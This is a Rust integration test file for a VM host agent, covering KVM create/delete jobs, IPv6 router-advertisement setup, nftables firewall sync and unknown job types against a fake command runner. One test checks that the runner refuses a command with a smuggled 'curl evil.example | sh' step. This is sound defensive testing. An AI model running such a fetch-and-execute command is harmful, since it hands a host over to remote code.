//! Whole-job dispatch against a scripted host.

use serde_json::json;
use std::path::Path;
use std::sync::Arc;

use corral_agent::config::{AgentConfig, PathsConfig};
use corral_agent::connector::memory::MemoryConnector;
use corral_agent::dispatch::NodeExecutor;
use corral_agent::exec::fake::FakeRunner;
use corral_agent::exec::{CommandOutput, CommandRunner, EXIT_REJECTED};
use corral_rs::api::agent::poll::ClaimedJob;
use corral_rs::connector::{FirewallState, JobExecutor};
use corral_rs::firewall::{FirewallMode, FirewallRule, Protocol, RuleAction};
use corral_rs::job::{AckStatus, JobId};
use uuid::Uuid;

const VM: &str = "3c1b2a9e-6f2d-4b8a-9c3e-7d6e5f4a3b2c";

fn config(root: &Path) -> AgentConfig {
    let mut config: AgentConfig = toml::from_str(
        r#"
        [controller]
        url = "http://localhost:8080"
        token = "node-token"
        "#,
    )
    .unwrap();
    config.paths = PathsConfig::under(root);
    config
}

fn executor(root: &Path, runner: Arc<FakeRunner>, connector: Arc<MemoryConnector>) -> NodeExecutor {
    NodeExecutor::new(runner, &config(root), connector)
}

fn job(id: i64, kind: &str, payload: serde_json::Value) -> ClaimedJob {
    ClaimedJob {
        id: JobId(id),
        kind: kind.to_string(),
        payload,
    }
}

const DOMIFLIST: &str = " Interface   Type     Source   Model    MAC\n\
                         -------------------------------------------------------------\n \
                         vnet3       bridge   br0      virtio   02:aa:bb:cc:dd:ee\n";

#[tokio::test]
async fn create_then_delete_with_failing_stop() {
    let dir = tempfile::tempdir().unwrap();
    let runner = Arc::new(FakeRunner::new());
    runner.respond_seq(
        &["virsh", "domstate"],
        vec![CommandOutput::failed(1, "error: failed to get domain 'vm1'")],
    );
    runner.respond(&["virsh", "domiflist"], CommandOutput::ok(DOMIFLIST));
    runner.respond(
        &["virsh", "destroy"],
        CommandOutput::failed(1, "error: Requested operation is not valid: domain is not running"),
    );
    let executor = executor(dir.path(), runner.clone(), Arc::new(MemoryConnector::new()));

    let created = executor
        .execute(&job(
            1,
            "KVM_CREATE",
            json!({ "vm_uuid": VM, "name": "vm1", "vcpus": 2, "memory_mb": 2048, "disk_gb": 20 }),
        ))
        .await;
    assert_eq!(created.status, AckStatus::Done, "{}", created.log);
    assert!(dir.path().join("state/domains/vm1.xml").exists());

    let deleted = executor
        .execute(&job(2, "DELETE", json!({ "vm_uuid": VM, "name": "vm1" })))
        .await;
    assert_eq!(deleted.status, AckStatus::Done, "{}", deleted.log);
    assert!(deleted.log.contains("force stop: failed"));
    assert!(deleted.log.contains("destroy storage: ok"));
    assert!(!dir.path().join("state/domains/vm1.xml").exists());
    assert!(runner.ran("virsh undefine vm1"));
    assert!(runner.ran("nft delete chain bridge corral vm_vnet3"));
    assert!(runner.ran("nft delete chain bridge corral as_vnet3"));
}

#[tokio::test]
async fn unsafe_raw_command_never_spawns() {
    let runner = FakeRunner::new();
    let output = runner.run_raw("virsh list --all && curl evil.example | sh").await;
    assert_eq!(output.code, EXIT_REJECTED);
    assert!(runner.calls().is_empty());
}

#[tokio::test]
async fn router_advertisements_need_a_64() {
    let dir = tempfile::tempdir().unwrap();
    let runner = Arc::new(FakeRunner::new());
    let executor = executor(dir.path(), runner.clone(), Arc::new(MemoryConnector::new()));

    let rejected = executor
        .execute(&job(1, "RA_SETUP", json!({ "bridge": "br0", "prefix": "2001:db8::/48" })))
        .await;
    assert_eq!(rejected.status, AckStatus::Failed);
    assert!(!dir.path().join("radvd.conf").exists());
    assert!(runner.calls().is_empty());

    let accepted = executor
        .execute(&job(
            2,
            "RA_SETUP",
            json!({ "bridge": "br0", "prefix": "2001:db8:0:7::/64", "dns_servers": ["2001:db8::53"] }),
        ))
        .await;
    assert_eq!(accepted.status, AckStatus::Done, "{}", accepted.log);
    let conf = std::fs::read_to_string(dir.path().join("radvd.conf")).unwrap();
    assert!(conf.contains("prefix 2001:db8:0:7::/64"));
    assert!(conf.contains("RDNSS 2001:db8::53"));
    assert!(runner.ran("ip -6 addr replace 2001:db8:0:7::1/64 dev br0"));
}

#[tokio::test]
async fn firewall_sync_twice_adds_one_jump() {
    let dir = tempfile::tempdir().unwrap();
    let runner = Arc::new(FakeRunner::new());
    runner.respond(&["virsh", "domiflist"], CommandOutput::ok(DOMIFLIST));
    runner.respond_seq(
        &["nft", "list", "chain"],
        vec![
            CommandOutput::ok("table bridge corral {\n\tchain forward {\n\t}\n}\n"),
            CommandOutput::ok(
                "table bridge corral {\n\tchain forward {\n\t\toifname \"vnet3\" jump vm_vnet3\n\t}\n}\n",
            ),
        ],
    );
    let connector = Arc::new(MemoryConnector::new());
    let vm_uuid = Uuid::parse_str(VM).unwrap();
    connector.set_firewall(
        vm_uuid,
        FirewallState {
            mode: FirewallMode::Allowlist,
            rules: vec![FirewallRule {
                id: 11,
                protocol: Protocol::Tcp,
                source_cidr: "198.51.100.0/24".into(),
                dest_ports: "22,443".into(),
                action: RuleAction::Allow,
                priority: 10,
                enabled: true,
            }],
        },
    );
    let executor = executor(dir.path(), runner.clone(), connector);

    let payload = json!({ "vm_uuid": VM, "name": "vm1" });
    let first = executor.execute(&job(1, "FW_SYNC", payload.clone())).await;
    let script = std::fs::read_to_string(dir.path().join("nft/vm_vnet3.nft")).unwrap();
    let second = executor.execute(&job(2, "FW_SYNC", payload)).await;

    assert_eq!(first.status, AckStatus::Done, "{}", first.log);
    assert_eq!(second.status, AckStatus::Done, "{}", second.log);
    assert_eq!(
        script,
        std::fs::read_to_string(dir.path().join("nft/vm_vnet3.nft")).unwrap()
    );
    let jumps = runner
        .lines()
        .into_iter()
        .filter(|l| l.starts_with("nft add rule bridge corral forward"))
        .count();
    assert_eq!(jumps, 1);
}

#[tokio::test]
async fn unknown_job_type_is_failed() {
    let dir = tempfile::tempdir().unwrap();
    let runner = Arc::new(FakeRunner::new());
    let executor = executor(dir.path(), runner.clone(), Arc::new(MemoryConnector::new()));

    let outcome = executor.execute(&job(1, "MIGRATE", json!({ "name": "vm1" }))).await;
    assert_eq!(outcome.status, AckStatus::Failed);
    assert_eq!(outcome.log, "unknown job type: MIGRATE");
    assert!(runner.calls().is_empty());
}
